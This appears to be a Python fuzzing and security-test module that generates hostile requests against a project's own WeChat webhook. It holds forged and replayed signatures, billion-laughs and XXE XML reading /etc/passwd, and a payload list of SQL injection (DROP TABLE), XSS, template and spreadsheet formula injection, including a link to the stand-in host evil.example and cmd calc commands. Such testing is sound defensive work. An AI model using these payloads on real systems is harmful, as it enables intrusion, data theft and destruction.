"""The hostile requests of bench/hostile.py, one builder per category: (account, i) -> a request to send.

Every builder is deterministic in `i` (and the run's random generator), so a run can be repeated. Signing, the AES
envelope and the message XML are built here by hand where a forgery needs a part the sandbox would not make.
"""

from __future__ import annotations

import base64
import dataclasses
import os
import random
import re
import time
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, urlencode
from xml.sax.saxutils import escape, unescape

from bot import protocol, sandbox
from town.settings import Settings

TOKEN = "xiangan-hostile"
AES_KEY = "hostileHostileHostileHostileHostile01234567"  # 43 characters, as the WeChat console shows it
MAX_BODY = 64 * 1024
VALID_TEXTS = ("你好", "帮助", "我的信息", "取消", "发烧38度5", "要两袋米", "我从武汉回来了", "打了两针", "待办", "对")
PAYLOADS = (
    "' OR '1'='1'; DROP TABLE person; --",
    "1; DELETE FROM outbox_message WHERE 1=1",
    '" UNION SELECT name, phone FROM person --',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "\\x00\\u0000",
)


@dataclass
class Account:
    """The service's WeChat account as the bench sees it: token, AES key (safe mode) and a captured signed query."""

    safe: bool
    settings: Settings = field(init=False)
    captured: str = field(init=False, default="")

    def __post_init__(self):
        key = AES_KEY if self.safe else ""
        self.settings = Settings(_env_file=None, wechat_token=TOKEN, wechat_encoding_aes_key=key, wechat_app_id="")
        self.captured = self.signed(text_xml("captured-cadre", "你好", 1)).path  # a URL an attacker saw once

    def signed(self, xml: str, **options) -> sandbox.SignedRequest:
        """Signed (and in safe mode encrypted) as WeChat would, `openid` in the query read from the XML."""
        signed = sandbox.sign_request(self.settings, xml, **options)
        params = dict(parse_qsl(signed.path.split("?", 1)[1], keep_blank_values=True))
        found = re.search(r"<FromUserName>(.*?)</FromUserName>", xml, re.S)
        params["openid"] = unescape(found[1])[:64] if found else ""
        return dataclasses.replace(signed, path="/wechat?" + urlencode(params))


@dataclass
class Request:
    """One request: path with query, body (bytes, or chunks sent with Transfer-Encoding: chunked)."""

    path: str
    body: bytes | list[bytes]
    headers: dict = field(default_factory=lambda: {"Content-Type": "text/xml"})
    expect_ok: bool = False  # a valid message: anything but a 200 is a failure too


def text_xml(openid: str, content: str, msg_id: int, create_time: str | None = None, **extra: str) -> str:
    """A text message whose fields are escaped rather than CDATA (any content stays well formed)."""
    fields = {
        "ToUserName": sandbox.ACCOUNT,
        "FromUserName": openid,
        "CreateTime": create_time if create_time is not None else str(int(time.time())),
        "MsgType": "text",
        "Content": content,
        "MsgId": str(msg_id),
        **extra,
    }
    return "<xml>" + "".join(f"<{k}>{escape(v)}</{k}>" for k, v in fields.items() if v is not None) + "</xml>"


def query(timestamp: str, nonce: str, **extra: str) -> str:
    """A /wechat query signed over (token, timestamp, nonce), with any other parameters."""
    return "/wechat?" + urlencode({"signature": protocol.sign(TOKEN, timestamp, nonce), "timestamp": timestamp,
                                   "nonce": nonce, **extra})  # fmt: skip


def post_body(account: Account, xml: bytes | str) -> Request:
    """A freshly signed request around a body the attacker wrote (plaintext mode framing, whatever the mode)."""
    body = xml.encode() if isinstance(xml, str) else xml
    return Request(query(str(int(time.time())), str(random.randrange(10**9))), body)


def signed_message(account: Account, xml: str, **options) -> Request:
    """A request signed (and in safe mode encrypted) by the book around a hostile message."""
    signed = account.signed(xml, **options)
    return Request(signed.path, signed.body)


# ---------------------------------------------------------------- the categories


def valid(account: Account, i: int) -> Request:
    request = signed_message(account, text_xml(f"hostile-user-{i % 200:03d}", VALID_TEXTS[i % len(VALID_TEXTS)], i))
    request.expect_ok = True
    return request


def bad_signature(account: Account, i: int) -> Request:
    good = account.signed(text_xml("forger", "待办", i))
    forged = [
        good.path.replace("signature=", "signature=0", 1),
        good.path.replace("signature=", "was=", 1),
        good.path.replace("signature=", "signature=" + "f" * 40 + "&was=", 1),
        good.path.replace("msg_signature=", "msg_signature=0", 1) if account.safe else good.path + "&signature=",
        "/wechat?signature=&timestamp=&nonce=",
        good.path.replace("nonce=", "nonce=1", 1),
    ]
    return Request(forged[i % len(forged)], good.body)


def stale_timestamp(account: Account, i: int) -> Request:
    skew = (700, -700, 86_400, -86_400 * 365, 601)[i % 5]
    return signed_message(account, text_xml("stale", "你好", i), timestamp=int(time.time()) - skew)


def malformed_timestamp(account: Account, i: int) -> Request:
    timestamps = (
        "",
        "abc",
        "1e9",
        "9" * 40,
        "-1",
        " 1700000000",
        "1700000000.5",
        "１７００００００００",
        "0x10",
        "NaN",
    )
    return Request(query(timestamps[i % len(timestamps)], "42"), text_xml("ts", "你好", i).encode())


def replay(account: Account, i: int) -> Request:
    """The captured signed query reused with another body: another openid, a cadre's command."""
    xml = text_xml(f"victim-cadre-{i % 5}", ("待办", "接单", "同意", "改为 明天", "答复 好的")[i % 5], 7_000_000 + i)
    if account.safe and i % 2:
        forged = account.signed(xml)  # a body encrypted by the book, under the captured (other) signature
        return Request(account.captured, forged.body)
    return Request(account.captured, xml.encode())


def oversized(account: Account, i: int) -> Request:
    huge = text_xml("big", "长" * (MAX_BODY // 3 + 10), i).encode()
    kind = i % 4
    if kind == 0:
        return post_body(account, huge)
    if kind == 1:
        request = post_body(account, b"")
        request.body = [huge[n : n + 4096] for n in range(0, len(huge), 4096)]  # chunked, no Content-Length
        return request
    if kind == 2:
        request = post_body(account, b"")
        request.body = [b"<xml>", b" " * (MAX_BODY + 1), b"</xml>"]
        return request
    request = signed_message(account, text_xml("chunked-ok", "你好", i))
    body = request.body
    request.body = [body[n : n + 7] for n in range(0, len(body), 7)]  # a valid message in tiny chunks
    return request


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>'
    "<xml><FromUserName>laughs</FromUserName><MsgType>text</MsgType><Content>&f;&f;&f;&f;</Content></xml>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<xml><FromUserName>xxe</FromUserName><MsgType>text</MsgType><Content>&x;</Content></xml>",
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><xml/>',
    '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://127.0.0.1:9/x.dtd"><xml><FromUserName>x</FromUserName></xml>',
)


def entities(account: Account, i: int) -> Request:
    """Billion laughs and XXE, in UTF-8, UTF-16 (BOM) and UTF-16LE, as the plaintext or inside the AES envelope."""
    xml = (LAUGHS, *XXE)[i % 4]
    encoding = ("utf-8", "utf-16", "utf-16-le")[(i // 4) % 3]
    declared = xml.replace('version="1.0"?>', f'version="1.0" encoding="{encoding}"?>', 1)
    body = declared.encode(encoding)
    if account.safe and (i // 12) % 2:
        return signed_message(account, declared)  # the same, encrypted and signed by the book
    return post_body(account, body)


def odd_encoding(account: Account, i: int) -> Request:
    content = ("café 发烧", "要两袋米", "Ünïcödé", "你好")[i % 4]
    encoding = ("iso-8859-1", "gbk", "utf-16", "utf-16-le", "utf-8-sig", "big5", "shift_jis")[(i // 4) % 7]
    xml = f'<?xml version="1.0" encoding="{encoding}"?>' + text_xml(f"enc-{encoding}", content, i)
    return post_body(account, xml.encode(encoding, "replace"))


def malformed_xml(account: Account, i: int) -> Request:
    good = text_xml("malformed", "你好", i)
    bodies = (
        good[: len(good) // 2],
        good.replace("</xml>", ""),
        good.replace("<xml>", "<root>").replace("</xml>", "</root>"),
        good.replace("<Content>", "<Content><Content>").replace("</Content>", "</Content></Content>"),
        good.replace("<MsgType>", '<MsgType a="1">'),
        good + good,
        good.replace("<Content>", "<Content><![CDATA[").replace("</Content>", "</Content>"),
        "<xml>" + "<a>" * 5000 + "</a>" * 5000 + "</xml>",
        "\x00" * 64,
        os.urandom(256).hex(),
        "",
        "<xml>&#0;&#xD800;</xml>",
    )
    return post_body(account, bodies[i % len(bodies)].encode("utf-8", "surrogatepass"))


def bad_fields(account: Account, i: int) -> Request:
    cases = (
        {"CreateTime": str(2**63)},
        {"CreateTime": str(10**12)},
        {"CreateTime": str(-(10**12))},
        {"CreateTime": "abc"},
        {"CreateTime": "9" * 5000},
        {"MsgId": "not-a-number"},
        {"MsgId": str(2**80)},
        {"MsgId": "-1"},
        {"FromUserName": None},
        {"MsgType": None},
        {"MsgType": "unheard-of"},
        {"MsgType": "event", "Event": "CLICK", "EventKey": "K" * 2000},
        {"MsgType": "event", "Event": "subscribe", "EventKey": "qrscene_' OR 1=1 --"},
        {"MsgType": "location", "Location_X": "nan", "Location_Y": "inf"},
    )
    case = cases[i % len(cases)]
    fields = {k: v for k, v in case.items() if k not in ("CreateTime", "MsgId")}
    create_time, msg_id = case.get("CreateTime"), case.get("MsgId", str(9_000_000 + i))
    xml = text_xml(f"fields-{i % 7}", "你好", 0, create_time=create_time, **fields).replace(
        "<MsgId>0</MsgId>", f"<MsgId>{escape(msg_id)}</MsgId>"
    )
    return signed_message(account, xml)


def wrong_appid(account: Account, i: int) -> Request:
    """A body encrypted under the right key for another appid, signed by the book; in plaintext mode, no key."""
    xml = text_xml("other-app", "待办", i)
    key = protocol.aes_key_bytes(AES_KEY)
    encrypted = protocol_encrypt(xml, key, ("wx0123456789abcdef", "x" * 200, " ")[i % 3])
    timestamp, nonce = str(int(time.time())), str(i)
    path = query(timestamp, nonce, encrypt_type="aes", msg_signature=protocol.sign(TOKEN, timestamp, nonce, encrypted))
    body = f"<xml><ToUserName>{sandbox.ACCOUNT}</ToUserName><Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>"
    return Request(path, body.encode())


def protocol_encrypt(xml: str, key: bytes, app_id: str) -> str:
    from wechatpy.crypto import PrpCrypto

    return PrpCrypto(key).encrypt(xml, app_id).decode()


def garbage_ciphertext(account: Account, i: int) -> Request:
    """Encrypt fields that are not what AES-CBC under our key makes, each signed by the book."""
    garbage = (
        base64.b64encode(os.urandom(16 * (1 + i % 8))).decode(),
        base64.b64encode(os.urandom(31)).decode(),
        "!!!not base64!!!",
        "",
        "A" * 60_000,
        "====",
        base64.b64encode(b"\x00" * 32).decode(),
    )[i % 7]
    timestamp, nonce = str(int(time.time())), str(i)
    path = query(timestamp, nonce, encrypt_type="aes", msg_signature=protocol.sign(TOKEN, timestamp, nonce, garbage))
    return Request(path, f"<xml><Encrypt><![CDATA[{garbage}]]></Encrypt></xml>".encode())


def huge_content(account: Account, i: int) -> Request:
    room = (MAX_BODY - 400) // 3
    content = ("米" * room, "0" * room * 3, "两袋米" * (room // 3), "发烧38度5，" * (room // 7), "一" * room)[i % 5]
    return signed_message(account, text_xml(f"huge-{i % 3}", content, 8_000_000 + i))


def control_chars(account: Account, i: int) -> Request:
    contents = (
        "".join(chr(c) for c in range(1, 32)),
        "你好\x00",
        "&#1;&#27;&#31;",
        "\u202e好你\u202c",
        "\u200b\u200d\ufeff帮助",
        "\U0001f600" * 50,
        "\ud800",
        "\x7f\x85\x9f",
    )
    content = contents[i % len(contents)]
    xml = text_xml("ctrl", "PLACEHOLDER", i).replace("PLACEHOLDER", content if "&#" in content else escape(content))
    return post_body(account, xml.encode("utf-8", "surrogatepass"))


def payloads(account: Account, i: int) -> Request:
    payload = PAYLOADS[i % len(PAYLOADS)]
    openid = payload[:40] if i % 3 == 0 else f"payload-{i % 11}"
    request = signed_message(account, text_xml(openid, payload, 6_000_000 + i))
    request.expect_ok = True  # a well-formed message like any other: it must be answered
    return request


# (builder, share of the requests)
CATEGORIES = {
    "valid": (valid, 20),
    "bad_signature": (bad_signature, 8),
    "stale_timestamp": (stale_timestamp, 5),
    "malformed_timestamp": (malformed_timestamp, 5),
    "replay": (replay, 6),
    "oversized": (oversized, 4),
    "entities": (entities, 6),
    "odd_encoding": (odd_encoding, 6),
    "malformed_xml": (malformed_xml, 8),
    "bad_fields": (bad_fields, 8),
    "wrong_appid": (wrong_appid, 4),
    "garbage_ciphertext": (garbage_ciphertext, 5),
    "huge_content": (huge_content, 2),
    "control_chars": (control_chars, 5),
    "payloads": (payloads, 8),
}
